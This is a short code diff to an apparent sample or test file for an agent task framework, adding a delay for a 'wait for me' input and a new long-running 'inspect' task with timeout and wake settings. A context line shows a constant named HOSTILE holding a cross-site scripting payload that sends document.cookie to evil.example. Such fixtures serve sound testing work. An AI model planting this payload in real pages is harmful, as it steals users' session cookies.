@@ -11,7 +11,9 @@ HOSTILE = "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\"
 
 
 async def answer(text: str) -> str:
-    """The agent of the sample: says what it heard."""
+    """The agent of the sample: says what it heard; if it is asked to wait, only after a while."""
+    if text == "wait for me":
+        await asyncio.sleep(120)
     return f"You said: {text}"
 
 
@@ -83,6 +85,12 @@ async def ask_owner(run: hf.Run, question: str) -> str:
 @hf.task
 async def rest(run: hf.Run) -> None:
     await run.sleep("8h")
+
+
+@hf.task(run_timeout="2s", smart_wake="always", wake_after="6h")
+async def inspect(run: hf.Run) -> None:
+    """Longer than one run may be: it is saved, and woken later."""
+    await _watch(run)
 
 
 @hf.task
